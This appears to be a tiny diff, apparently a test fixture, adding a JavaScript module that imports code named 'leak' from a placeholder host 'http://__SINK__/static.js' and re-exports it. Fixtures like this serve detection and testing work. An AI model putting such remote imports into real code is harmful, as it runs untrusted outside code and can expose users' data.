@@ -1,0 +1,2 @@
+import leak from 'http://__SINK__/static.js'
+export const work = () => leak
